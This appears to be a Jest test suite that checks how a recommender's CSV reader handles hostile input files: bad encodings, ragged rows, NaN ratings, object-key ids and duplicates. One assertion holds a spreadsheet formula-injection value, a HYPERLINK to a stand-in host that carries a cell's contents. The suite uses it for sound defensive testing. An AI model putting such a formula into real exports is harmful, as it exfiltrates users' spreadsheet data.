import { readFileSync } from 'node:fs';
import path from 'node:path';
import { textOf } from '../../../../src/ml/recommend/artefact/textColumn';
import { kept, read, refusal, type Files } from './read';

/** Each file of the folder ends as the folder's own table allows. */
interface Expected {
  file: string;
  kind: 'interactions' | 'items';
  wrong: string;
  rows?: number;
  distinct?: number;
  line?: number;
  column?: string;
  bad_lines?: number[];
  allowed: ('accept' | 'accept-with-warning' | 'refuse')[];
}
const data = process.env.PALATE_TEST_DATA;
const folder = path.join(data ?? '', 'csv-hostile');
const files = data === undefined ? [] : (JSON.parse(readFileSync(path.join(folder, 'expected.json'), 'utf8')) as { files: Expected[] }).files; // prettier-ignore
const given = ({ file, kind }: Pick<Expected, 'file' | 'kind'>): Files => ({
  [kind]: readFileSync(path.join(folder, file)),
});
const named = (name: string): Expected => files.find(({ file }) => file === name)!;

/** What each is to end as here, where more than one end is allowed. */
const refused = new Set([
  'missing-column.csv', 'duplicate-header.csv', 'empty.csv', 'whitespace-only.csv', 'header-only.csv', 'unclosed-quote.csv', 'binary-named.csv',
]); // prettier-ignore
/** Rows that `expected.json` counts as kept, and that are kept as no sign of interest. */
const notPositive: Record<string, number> = { 'negative-ids.csv': 1 };

if (data === undefined) console.warn('PALATE_TEST_DATA is not set: hostile CSV files are skipped.');

(data === undefined ? describe.skip : describe)('hostile CSV files', () => {
  test('the table names each file once', () => {
    expect(files.length).toBeGreaterThan(30);
    expect(new Set(files.map(({ file }) => file)).size).toBe(files.length);
  });

  test.each(files.map((one) => [one.file, one] as const))('%s', (name, expected) => {
    for (const chunk of [1 << 16, 1]) {
      if (refused.has(name)) {
        expect(expected.allowed).toContain('refuse');
        const { message, place } = refusal({ ...given(expected), chunk });
        expect(message).toMatch(/^(?:interactions|items)\.csv\b.*\.$/);
        if (expected.line !== undefined) expect(place.line).toBe(expected.line);
        if (expected.column !== undefined) expect(message).toContain(expected.column);
        continue;
      }
      const ingested = read({ ...given(expected), chunk });
      const report = ingested[expected.kind]!;
      const warnings = [...report.warnings, ...ingested.warnings];
      const repeated = report.rows.rejected.duplicate ?? 0;
      expect(report.rows.kept + repeated - (notPositive[name] ?? 0)).toBe(expected.rows ?? report.rows.kept);
      expect(report.rows.kept).toBe(report.rows.read - Object.values(report.rows.rejected).reduce((sum, n) => sum + n, 0)); // prettier-ignore
      if (expected.distinct !== undefined) expect(report.rows.kept).toBe(expected.distinct);
      if (!expected.allowed.includes('accept')) expect(warnings).not.toEqual([]);
      if (expected.allowed.length === 1 && expected.allowed[0] === 'accept') expect(warnings).toEqual([]);
      // Of each kind of fault the first few lines are told, so of every file the first three.
      if (expected.allowed.includes('accept')) continue;
      const told = new Set(warnings.flatMap((warning) => [...warning.matchAll(/\d+/g)].map(Number)));
      expect((expected.bad_lines ?? []).slice(0, 3).filter((line) => !told.has(line))).toEqual([]);
    }
  });

  const readNamed = (name: string) => read(given(named(name)));
  test('a byte order mark is no part of the first column', () => {
    expect(readNamed('utf8-bom.csv').interactions?.header[0]).toBe('user_id');
  });
  test.each([
    'semicolon.csv',
    'tab.csv',
    'crlf.csv',
    'header-case-space.csv',
    'extra-shuffled-columns.csv',
    'utf16le.csv',
    'utf8-bom.csv',
  ])('%s says the same as ok.csv', (name) => expect(kept(readNamed(name))).toEqual(kept(readNamed('ok.csv'))));
  test('decimal commas are numbers where commas separate nothing', () => {
    const ingested = readNamed('semicolon-decimal-comma.csv');
    expect(kept(ingested).slice(0, 2)).toEqual(['u1 i3 2.5 1767225600', 'u1 i6 4.5 1767229200']);
    expect(ingested.interactions?.warnings.join()).toContain('decimal comma');
  });
  test('ids stay as they were written', () => {
    const { dataset } = readNamed('leading-zeros.csv');
    expect(['007', '7', '7.0', '9007199254740993', '9007199254740992'].map((id) => dataset.users.find(id))).not.toContain(-1);
    expect(dataset.users.size).toBe(5);
    const { dataset: keys } = readNamed('object-key-ids.csv');
    expect([keys.users.size, keys.items.size]).toEqual([9, 5]);
    expect(Object.prototype).toEqual({});
  }); // prettier-ignore
  test('seconds, milliseconds and ISO with a zone mean the same instant', () => {
    const ingested = readNamed('timestamp-units.csv');
    expect(kept(ingested).slice(0, 3).map((row) => row.split(' ')[3])).toEqual(['1767225600', '1767225600', '1767225600']); // prettier-ignore
    const told = JSON.stringify([ingested.interactions?.problems, ingested.interactions?.warnings]);
    for (const line of [5, 6, 8, 9, 10]) expect(told).toMatch(new RegExp(`\\b${line}\\b`));
    expect(Math.max(...ingested.dataset.ratings.times!)).toBeLessThan(1767225602);
  });
  test('the latest of a pair is kept', () => {
    const ingested = readNamed('duplicate-interactions.csv');
    expect(ingested.interactions?.problems.map(({ kind, line }) => `${kind} ${line}`)).toEqual([
      'duplicate 22', 'duplicate 23', 'duplicate 24', 'duplicate 25',
    ]); // prettier-ignore
  });
  test('rows that cannot be taken are told by line, and no number is made of text', () => {
    const lines = (name: string) => readNamed(name).interactions!.problems.map(({ line }) => line);
    expect(lines('ragged-rows.csv')).toEqual([6, 10, 22]);
    expect(lines('non-numeric-rating.csv')).toEqual([8, 13, 19, 25]);
    expect(lines('nan-inf-ratings.csv')).toEqual([5, 7, 9, 11, 14]);
    expect(lines('nul-byte.csv')).toEqual([7]);
    expect(lines('negative-ids.csv')).toEqual([27]);
    expect(readNamed('nan-inf-ratings.csv').interactions!.rows).toEqual({ read: 30, kept: 22, rejected: { rating: 8 } });
  }); // prettier-ignore
  test('titles are text, whatever is in them', () => {
    const titles = (name: string) => {
      const { dataset } = readNamed(name);
      return Array.from({ length: dataset.items.size }, (_, item) => textOf(dataset.catalogue!.title!, item));
    };
    expect(titles('latin1.csv').slice(0, 4)).toEqual(['Crème brûlée', 'Lentil soup', 'Fish tacos', 'Jalapeño pancakes']); // prettier-ignore
    expect(titles('latin1.csv').join()).not.toContain('\uFFFD');
    expect(titles('quoted-newlines.csv').slice(0, 3)).toEqual(['Green curry\nwith rice', 'Lentil soup', 'Fish tacos "special"']); // prettier-ignore
    expect(titles('formula-cells.csv')[0]).toBe('=HYPERLINK("http://example.invalid/?x="&A2,"Green curry")');
    expect(titles('huge-cell.csv')).toHaveLength(7);
    expect(readNamed('huge-cell.csv').items?.problems[0]).toMatchObject({ kind: 'row_too_long', line: 4 });
  });
  test('too little to learn from is said, with the number', () => {
    const said = (name: string) => readNamed(name).warnings.join();
    expect(said('one-row.csv')).toContain('1 row');
    expect(said('one-user.csv')).toContain('1 user');
    expect(said('one-item.csv')).toContain('1 item');
    expect(said('all-ratings-equal.csv')).toContain('All ratings are 4');
  });
});
